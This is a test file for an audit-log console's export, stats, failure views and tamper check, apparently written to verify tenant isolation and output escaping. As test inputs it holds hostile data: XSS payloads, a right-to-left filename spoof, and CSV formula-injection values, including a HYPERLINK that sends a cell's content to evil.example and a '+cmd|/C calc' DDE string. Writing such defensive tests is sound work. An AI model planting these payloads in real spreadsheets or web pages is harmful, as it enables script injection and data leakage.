// The audit log's stats, export, session failures and chain verification, over a real SQLite
// file and a real listener, driven over HTTP as a browser would: the tenant is in the store's
// query (another tenant's records never exported), CSV cells a spreadsheet would run are inert,
// a row edited in the file is reported for its writer, hostile tool names stay text in the charts.
import Database from 'better-sqlite3';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { operatorKeyFromSecret } from '../store/operator-key.js';
import { makeAudit } from '../store/test-support/store-suite.js';
import type { AuditRecord } from '../store/types.js';
import type { ConsoleOptions } from './console.js';
import { csvCell } from './export.js';
import { Agent, serveConsole, type ServedConsole } from './test-support/http-client.js';
import { storeFileForTests } from './test-support/store-file.js';
import { tokenVerifier } from './test-support/token-verifier.js';

const key = operatorKeyFromSecret('ab'.repeat(32));
const file = storeFileForTests('te-console-audit-', { chainKey: key });
const verifyToken = tokenVerifier([
  { token: 'viewer-acme', principal: 'user:vic', tenant: 'acme', roles: ['viewer'] },
  { token: 'admin-any', principal: 'user:ada', roles: ['admin'] },
]);

const HOSTILE_TOOLS = ['<script>alert(1)</script>', '"><svg onload=alert(2)>', '\u202egnp.exe', `=HYPERLINK("http://evil.example/?"&A1)`];
const now = Date.now();
const acme = (over: Partial<AuditRecord>): AuditRecord =>
  makeAudit({ principalChain: [{ kind: 'user', id: 'u', tenant_id: 'acme' }], startedAt: now - 1_800_000, ...over });
const globex = (over: Partial<AuditRecord>): AuditRecord =>
  makeAudit({ principalChain: [{ kind: 'user', id: 'g', tenant_id: 'globex' }], startedAt: now - 1_800_000, ...over });

let served: ServedConsole | undefined;
const records: AuditRecord[] = [];
beforeAll(async () => {
  for (let i = 0; i < 40; i++) {
    records.push(
      acme({
        tool: HOSTILE_TOOLS[i % HOSTILE_TOOLS.length]!,
        status: i % 4 === 0 ? 'error' : 'ok',
        category: i % 4 === 0 ? (i % 8 === 0 ? 'timeout' : 'internal') : null,
        errorCode: i % 4 === 0 ? '+cmd|/C calc' : null,
        sessionId: i % 2 ? '@SUM(1+1)' : '-2+3',
        startedAt: now - 1_800_000 + i * 30_000,
        latencyMs: i * 3,
      }),
      globex({ tool: 'globex.secret', sessionId: '-2+3', status: 'error', category: 'timeout', errorCode: 'globex-only' }),
    );
  }
  await file.store.appendAudit(records);
});
afterEach(async () => {
  await served?.close();
  served = undefined;
});

async function signedIn(token: string, options: Partial<ConsoleOptions> = {}): Promise<Agent> {
  served = await serveConsole({ store: file.store, verifyToken, operatorKey: async () => key, ...options });
  const a = new Agent(served.url);
  expect((await a.signIn(token)).status).toBe(303);
  return a;
}

/** The cells of a CSV written by export.ts (every cell quoted). */
function parseCsv(text: string): string[][] {
  return text
    .split('\r\n')
    .filter((l) => l !== '')
    .map((line) => [...line.matchAll(/"((?:[^"]|"")*)"(?:,|$)/g)].map((m) => m[1]!.replace(/""/g, '"')));
}

describe('export', () => {
  it("a viewer's export holds its tenant's records only, in NDJSON and CSV, whatever the filter asks", async () => {
    const a = await signedIn('viewer-acme');
    const mine = records
      .filter((r) => r.principalChain[0]!.tenant_id === 'acme')
      .map((r) => r.id)
      .sort();
    const nd = await a.request('/export.ndjson');
    expect(nd.status).toBe(200);
    expect(nd.headers.get('content-type')).toContain('application/x-ndjson');
    expect(nd.headers.get('content-disposition')).toMatch(/^attachment; filename="audit-.*\.ndjson"$/);
    const ids = nd.body
      .trim()
      .split('\n')
      .map((l) => (JSON.parse(l) as AuditRecord).id);
    expect(ids.sort()).toEqual(mine);
    expect(nd.body).not.toContain('globex');
    // Asking for the other tenant's tool or session gives nothing of it.
    for (const q of ['tool=globex.secret', 'session=-2%2B3&status=error']) {
      const r = await a.request(`/export.csv?${q}`);
      expect(r.status).toBe(200);
      expect(r.body).not.toContain('globex');
    }
    const csv = parseCsv((await a.request('/export.csv')).body);
    expect(
      csv
        .slice(1)
        .map((row) => row[0])
        .sort(),
    ).toEqual(mine);
  });

  it("an admin's export holds every tenant's records", async () => {
    const a = await signedIn('admin-any');
    const nd = await a.request('/export.ndjson');
    expect(nd.body.trim().split('\n')).toHaveLength(records.length);
  });

  it('CSV cells a spreadsheet would take as formulas are prefixed, and stay one cell', async () => {
    const a = await signedIn('admin-any');
    const r = await a.request('/export.csv');
    expect(r.headers.get('content-type')).toContain('text/csv');
    const rows = parseCsv(r.body);
    const header = rows[0]!;
    expect(rows.every((row) => row.length === header.length)).toBe(true);
    for (const row of rows.slice(1)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const cells = rows.slice(1).flat();
    expect(cells).toContain(`'=HYPERLINK("http://evil.example/?"&A1)`);
    expect(cells).toContain("'+cmd|/C calc");
    expect(cells).toContain("'@SUM(1+1)");
    expect(cells).toContain("'-2+3");
    expect(csvCell('\t=1')).toBe(`"'\t=1"`);
    expect(csvCell('a "b"')).toBe('"a ""b"""');
  });

  it('a bad filter is answered 400 before anything is streamed', async () => {
    const a = await signedIn('admin-any');
    const r = await a.request('/export.csv?status=nope');
    expect(r.status).toBe(400);
    expect(r.body).toContain("unknown status 'nope'");
  });
});

describe('stats', () => {
  it('draws calls, failures by category and latency per tool as SVG, the hostile tool names inert', async () => {
    const a = await signedIn('admin-any');
    const r = await a.request('/stats');
    expect(r.status).toBe(200);
    expect(r.headers.get('content-security-policy')).toContain("script-src 'self'");
    expect(r.body).toContain('<svg viewBox=');
    expect(r.body).toContain('Failures over time by error category');
    expect(r.body).toContain('timeout');
    // No tag or attribute of a tool name survives: only their escaped text.
    expect(r.body).not.toContain('<script>alert');
    expect(r.body).not.toContain('<svg onload');
    expect(r.body).not.toMatch(/\sstyle=/);
    expect(r.body).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(r.body).toContain('&quot;&gt;&lt;svg onload=alert(2)&gt;');
    expect(r.body).toContain('\\u{202e}gnp.exe');
    expect(r.body).not.toContain('\u202e');
    expect(r.body).toContain('80 calls, 50 failed');
  });

  it("a viewer's stats count its tenant's calls only", async () => {
    const a = await signedIn('viewer-acme');
    const r = await a.request('/stats');
    expect(r.body).toContain('40 calls, 10 failed');
    expect(r.body).not.toContain('globex');
  });

  it('a bad window is answered 400', async () => {
    const a = await signedIn('admin-any');
    expect((await a.request('/stats?since=yesterday-ish')).status).toBe(400);
    expect((await a.request('/stats?since=1h&until=2h')).status).toBe(400);
  });
});

describe('session failures', () => {
  it("groups a session's failures by category and tool, its tenant's only", async () => {
    const a = await signedIn('viewer-acme');
    const r = await a.request('/failures?session=-2%2B3');
    expect(r.status).toBe(200);
    // Session '-2+3' holds the even i: failures at i % 4 === 0, timeout at i % 8 === 0 (5) and internal (5).
    expect(r.body).toContain('timeout</a>: 5 failed');
    expect(r.body).toContain('internal</a>: 5 failed');
    expect(r.body).not.toContain('globex');
  });
});

describe('verify', () => {
  it('reports a row edited in the SQLite file, for the writer that wrote it; only an admin may run it', async () => {
    const viewer = await signedIn('viewer-acme');
    expect((await viewer.request('/verify')).status).toBe(403);
    const inbox = await viewer.request('/inbox');
    expect((await viewer.request('/verify', { form: { csrf: Agent.csrfOf(inbox.body)! } })).status).toBe(403);
    await served!.close();

    const a = await signedIn('admin-any');
    const clean = await runVerify(a);
    expect(clean).toContain('id="verify-result">ok:');
    const writer = /<tr class="good"><td>(\d+)<\/td><td>ok<\/td><td>(\d+)<\/td>/.exec(clean)!;
    expect(Number(writer[2])).toBe(records.length);

    // Another process edits a row in the file: a globex call's error code, as someone hiding it would.
    const victim = records.find((r) => r.errorCode === 'globex-only')!;
    const db = new Database(file.path);
    expect(db.prepare("UPDATE audit SET error_code = 'nothing-to-see' WHERE id = ?").run(victim.id).changes).toBe(1);
    db.close();
    // Without its CSRF token the POST is refused.
    expect((await a.request('/verify', { form: { csrf: 'wrong' } })).status).toBe(403);
    const tampered = await runVerify(a);
    expect(tampered).toContain('id="verify-result">TAMPERED:');
    expect(tampered).toContain(`<tr class="bad"><td>${writer[1]}</td><td>TAMPERED</td>`);
    expect(tampered).toContain(`<td>${writer[1]}</td><td>edited</td><td><a href="/console/audit/${victim.id}">`);
  });
});

async function runVerify(a: Agent): Promise<string> {
  const page = await a.request('/verify');
  const csrf = Agent.csrfOf(page.body)!;
  const started = await a.request('/verify', { form: { csrf } });
  expect(started.status).toBe(303);
  for (let i = 0; i < 200; i++) {
    const r = await a.request('/verify');
    if (!r.body.includes('verify-running')) return r.body;
    await new Promise((res) => setTimeout(res, 50));
  }
  throw new Error('the check did not end');
}
